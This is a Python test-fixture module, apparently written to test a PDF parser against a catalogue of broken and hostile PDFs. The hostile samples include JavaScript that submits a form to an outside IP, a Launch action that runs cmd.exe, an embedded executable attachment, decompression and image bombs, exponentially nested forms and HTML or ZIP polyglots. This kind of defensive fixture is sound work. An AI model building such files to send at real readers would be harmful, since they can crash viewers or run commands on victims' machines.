"""PDFs that want to harm or to hang: made here, never fetched."""

import io
import zlib
from collections.abc import Mapping

import pikepdf

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://198.51.100.1/'\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"


def pdf(
    *, root: bytes = CATALOG, pages: bytes = PAGES, page: bytes = PAGE, stream: bytes = b"", more: bytes = b""
) -> bytes:
    """A PDF whose cross-reference table is right, whatever its objects say."""
    content = b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream)
    return table([root, pages, page, content, *([more] if more else [])])


def table(objects: list[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        start,
    )


def bomb(megabytes: int, layers: int = 1) -> bytes:
    """A page whose content unpacks to so much."""
    packed = b" " * (megabytes * 1024 * 1024)
    for _ in range(layers):
        packed = zlib.compress(packed, 1)
    filters = b"/FlateDecode " * layers
    content = b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(packed), filters, packed)
    return table([CATALOG, PAGES, PAGE, content])


def picture_bomb(side: int) -> bytes:
    """A small page showing a picture of side × side black dots."""
    packed = zlib.compress(b"\0" * (side * side // 8), 1)
    image = b"<</Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</XObject<</I 5 0 R>>>>/Contents 4 0 R>>"
    )
    return pdf(page=page, stream=b"200 0 0 200 0 0 cm /I Do", more=image % (side, side, len(packed), packed))


def nested_forms() -> bytes:
    """Each form draws the next twice: two to the thirtieth drawings."""
    head = [CATALOG, PAGES, PAGE.replace(b"/Contents", b"/Resources<</XObject<</F 5 0 R>>>>/Contents"),
            b"<</Length 5>>stream\n/F Do\nendstream"]  # fmt: skip
    forms = [
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>/Length 11>>stream\n/F Do /F Do\nendstream"
        % min(number + 1, 34)
        for number in range(5, 35)
    ]
    return table([*head, *forms])


def locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def with_attachment() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.attachments["run.exe"] = b"MZ" + b"\0" * 64
        made.save(out)
    return out.getvalue()


def pdfs() -> Mapping[str, bytes]:
    """All of them, by what they are."""
    good = pdf(stream=b"0 0 100 100 re f")
    return {
        "good": good,
        "wrong xref": good.replace(b"0000000009", b"0000099999"),
        "no xref": good.split(b"xref")[0],
        "xref loop": good.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % good.index(b"xref")),
        "javascript": pdf(
            root=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (SCRIPT, SCRIPT)
        ),
        "launch": pdf(root=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % LAUNCH),
        "form to elsewhere": pdf(root=b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA(<xdp:xdp/>)/Fields[]>>>>"),
        "attachment": with_attachment(),
        "locked": locked(),
        "million pages claimed": pdf(pages=b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>"),
        "negative pages": pdf(pages=b"<</Type/Pages/Kids[3 0 R]/Count -1>>"),
        "endless pages": pdf(pages=b"<</Type/Pages/Kids[3 0 R]/Count 99999999999999999999>>"),
        "page tree in itself": pdf(pages=b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
        "root in itself": pdf(root=b"1 0 R"),
        "no size": pdf(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 0]>>"),
        "negative size": pdf(page=b"<</Type/Page/Parent 2 0 R/MediaBox[200 200 0 0]>>"),
        "huge size": pdf(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>"),
        "thin": pdf(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 0.001 14400]>>"),
        "flat": pdf(page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 0.001]>>"),
        "not a number": pdf(page=b"<</Type/Page/Parent 2 0 R/MediaBox[/A (b) nan null]>>"),
        "bomb 300 MB": bomb(300),
        "bomb of bombs": bomb(300, layers=2),
        "picture bomb": picture_bomb(30_000),
        "forms in forms": nested_forms(),
        "deep arrays": pdf(root=b"<</Type/Catalog/Pages 2 0 R/X" + b"[" * 20_000 + b"]" * 20_000 + b">>"),
        "many operators": pdf(stream=b"q 0 0 200 200 re f " * 200_000),
        "a page and a web page": b"<html><script>alert(1)</script>" + good,
        "a page and an archive": good + b"PK\x03\x04" + b"\0" * 26 + b"PK\x05\x06" + b"\0" * 18,
        "head only": b"%PDF-1.7\n",
        "head and noise": b"%PDF-1.7\n" + bytes(range(256)) * 40,
    }
